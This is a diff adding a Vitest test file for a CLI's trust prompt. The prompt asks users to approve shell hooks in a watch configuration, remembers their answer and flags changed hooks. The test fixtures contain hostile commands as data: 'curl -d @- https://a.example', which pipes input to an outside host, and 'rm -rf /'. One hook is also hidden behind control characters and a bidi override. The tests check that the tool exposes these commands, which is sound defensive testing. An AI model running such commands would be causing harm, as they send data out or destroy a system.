@@ -1,0 +1,124 @@
+/** The question that stands before what a configuration could do, and the command that shows it. */
+import { expect, test } from 'vitest';
+import { loadTrusted, runTrust } from '../../src/cli/trust.js';
+import type { Language } from '../../src/text/language.js';
+import { deskIn, folderWith } from '../support/init-rig.js';
+import { temporaryFolder } from '../support/rig.js';
+
+const ask = { trust: false, json: false };
+const show = { list: false, forget: false };
+const hooked = (command: string) =>
+  folderWith({
+    'watch.config.json': JSON.stringify({ envs: ['dev'], hooks: { afterLive: command } }, null, 2),
+    'cloudfunctions/pay/index.js': 'exports.main = async () => 1;',
+  });
+
+async function user(cwd: string, more: { language?: Language; home?: string } = {}) {
+  const home = more.home ?? (await temporaryFolder());
+  const environment = { XDG_STATE_HOME: home };
+  const language = more.language ?? 'en';
+  return {
+    home,
+    at: (...answers: string[]) => deskIn(cwd, { answers, environment, language }),
+    without: () => deskIn(cwd, { environment, language }),
+  };
+}
+
+test('what is agreed to is asked once, and again only when it changes, saying so', async () => {
+  const folder = await hooked('curl -d @- https://a.example');
+  const { at, without, home } = await user(folder);
+  const first = at('y');
+  expect(await loadTrusted(ask, first.context)).not.toBeNull();
+  expect(first.err()).toMatch(
+    /6:18 hooks\.afterLive: runs a command in your shell: curl -d @- https:\/\/a\.example\n/,
+  );
+  expect(first.err()).toContain(`${home}/tcb-watch/trust.json`);
+  expect(first.questions).toHaveLength(1);
+  const second = at('y');
+  expect(await loadTrusted(ask, second.context)).not.toBeNull();
+  expect([second.questions, second.err()]).toEqual([[], '']);
+  // Nobody at a terminal needs to be there any more either.
+  expect(await loadTrusted(ask, without().context)).not.toBeNull();
+
+  const changed = await hooked('rm -rf /');
+  const { rename } = await import('node:fs/promises');
+  await rename(`${changed}/watch.config.json`, `${folder}/watch.config.json`);
+  const third = at('n');
+  expect(await loadTrusted(ask, third.context)).toBeNull();
+  expect(third.err()).toMatch(/rm -rf \/ \(changed since you agreed\)/);
+  const fourth = without();
+  expect(await loadTrusted(ask, fourth.context)).toBeNull();
+  expect(fourth.err()).toMatch(/changed since you agreed/i);
+});
+
+test.each([
+  ['no', 'n'],
+  ['Enter alone', ''],
+  ['something else', 'maybe'],
+])('%s is no agreement', async (_, answer) => {
+  const { at } = await user(await hooked('x'));
+  expect(await loadTrusted(ask, at(answer).context)).toBeNull();
+  expect(await loadTrusted(ask, at('y').context)).not.toBeNull();
+});
+
+test('programs that read events are not asked, and --trust agrees for one run', async () => {
+  const { at } = await user(await hooked('x'));
+  const desk = at('y');
+  expect(await loadTrusted({ ...ask, json: true }, desk.context)).toBeNull();
+  expect(desk.questions).toEqual([]);
+  expect(await loadTrusted({ ...ask, json: true, trust: true }, desk.context)).not.toBeNull();
+  expect(await loadTrusted({ ...ask, json: true }, desk.context)).toBeNull();
+});
+
+test('a command cannot hide behind line ends, control characters or a secret', async () => {
+  const folder = await folderWith({
+    'watch.config.json': JSON.stringify({
+      envs: ['dev'],
+      hooks: { afterLive: 'true\n\u001b[2K\rharmless\u202e' },
+      token: { url: 'https://t.example', headers: { k: 'literal-secret-77' } },
+    }),
+    'cloudfunctions/': '',
+  });
+  const { without } = await user(folder);
+  const desk = without();
+  expect(await runTrust(show, desk.context)).toBe(3);
+  expect(desk.out()).toContain(
+    String.raw`runs a command in your shell: true\u000a\u001b[2K\u000dharmless\u202e`,
+  );
+  expect(desk.out()).toContain('https://t.example, k: ***');
+});
+
+test('tcb-watch trust shows everything, asks, remembers, lists and forgets', async () => {
+  const folder = await hooked('x');
+  const { at, without } = await user(folder);
+  expect(await runTrust(show, at('n').context)).toBe(1);
+  expect(await runTrust(show, without().context)).toBe(3);
+  expect(await runTrust(show, at('y').context)).toBe(0);
+  const shown = without();
+  expect(await runTrust(show, shown.context)).toBe(0);
+  expect(shown.out()).toMatch(
+    /hooks\.afterLive: runs a command in your shell: x\nYou have agreed to all of this\./,
+  );
+  const listed = without();
+  expect(await runTrust({ ...show, list: true }, listed.context)).toBe(0);
+  expect(listed.out()).toContain(`${folder}/watch.config.json: hooks.afterLive`);
+  expect(await runTrust({ ...show, forget: true }, without().context)).toBe(0);
+  expect(await runTrust(show, without().context)).toBe(3);
+});
+
+test('says so where there is nothing to agree to', async () => {
+  const folder = await folderWith({ 'watch.config.json': '{"envs":["dev"]}', 'cloudfunctions/': '' });
+  const { at } = await user(folder, { language: 'zh-CN' });
+  const desk = at();
+  expect(await runTrust(show, desk.context)).toBe(0);
+  expect(desk.out()).toContain('没有需要您确认的操作');
+});
+
+test('a broken configuration runs nothing and asks nothing', async () => {
+  const { at } = await user(
+    await folderWith({ 'watch.config.json': '{"envs":[1],"hooks":{"afterLive":"x"}}' }),
+  );
+  const desk = at('y');
+  expect(await runTrust(show, desk.context)).toBe(3);
+  expect(desk.questions).toEqual([]);
+});
